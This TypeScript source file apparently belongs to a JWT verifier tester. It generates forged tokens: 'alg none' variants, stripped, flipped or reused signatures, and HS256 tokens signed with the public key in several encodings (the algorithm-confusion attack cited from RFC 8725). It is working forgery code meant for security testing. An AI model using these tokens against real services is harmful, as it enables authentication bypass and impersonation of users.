import { createHmac, createPublicKey, randomBytes } from "node:crypto";

/** A token taken apart. */
export interface TokenParts {
  readonly header: Readonly<Record<string, unknown>>;
  readonly claims: { readonly exp?: unknown };
  readonly payload: string;
  readonly signature: string;
  readonly text: string;
}

export function partsOf(text: string): TokenParts | undefined {
  const [header = "", payload = "", signature = ""] = text.split(".");
  const read = (part: string): Readonly<Record<string, unknown>> =>
    JSON.parse(Buffer.from(part, "base64url").toString());
  try {
    return { header: read(header), claims: read(payload), payload, signature, text };
  } catch {
    return undefined;
  }
}

/** A token and what is wrong with it. */
export type Forgery = readonly [what: string, token: string];

export const encoded = (value: unknown): string =>
  Buffer.from(JSON.stringify(value)).toString("base64url");

/** Tokens whose signature proves nothing (RFC 8725 §2.1). */
export function unsigned({
  header,
  claims,
  payload,
  signature,
  text,
}: TokenParts): readonly Forgery[] {
  const [head = ""] = text.split(".");
  const bytes = Buffer.from(signature, "base64url");
  const flipped = Buffer.from(bytes);
  if (flipped.length > 0) flipped.writeUInt8(flipped.readUInt8(0) ^ 0xff, 0);
  const other = encoded({ ...claims, jti: randomBytes(8).toString("hex") });
  return [
    ["alg none, without signature", `${encoded({ ...header, alg: "none" })}.${payload}.`],
    [
      "alg None, with the old signature",
      `${encoded({ ...header, alg: "None" })}.${payload}.${signature}`,
    ],
    ["no signature", `${head}.${payload}.`],
    ["a changed signature", `${head}.${payload}.${flipped.toString("base64url")}`],
    ["changed claims with the old signature", `${head}.${other}.${signature}`],
  ];
}

/** Tokens signed with the public key as if it were a shared secret (RFC 8725 §2.1). */
export function confused({ header, payload }: TokenParts, publicKey: string): readonly Forgery[] {
  const head = encoded({ ...header, alg: "HS256" });
  const sign = (secret: string | Buffer): string =>
    `${head}.${payload}.${createHmac("sha256", secret).update(`${head}.${payload}`).digest("base64url")}`;
  const spellings = new Map<string, string | Buffer>([
    ["as it was given", publicKey],
    ["without the last line's end", publicKey.trimEnd()],
    ["with a line's end", `${publicKey.trimEnd()}\n`],
  ]);
  try {
    const key = publicKey.trimStart().startsWith("{")
      ? createPublicKey({ key: JSON.parse(publicKey), format: "jwk" })
      : createPublicKey(publicKey);
    const pem = key.export({ type: "spki", format: "pem" }).toString();
    spellings.set("as PEM", pem);
    spellings.set("as PEM without the last line's end", pem.trimEnd());
    spellings.set("as DER", key.export({ type: "spki", format: "der" }));
    spellings.set("as JWK", JSON.stringify(key.export({ format: "jwk" })));
  } catch {
    // The text itself was tried.
  }
  const tokens = new Map<string, string>();
  for (const [how, secret] of spellings) {
    const token = sign(secret);
    if (![...tokens.values()].includes(token))
      tokens.set(`HS256 with the public key ${how}`, token);
  }
  return [...tokens];
}
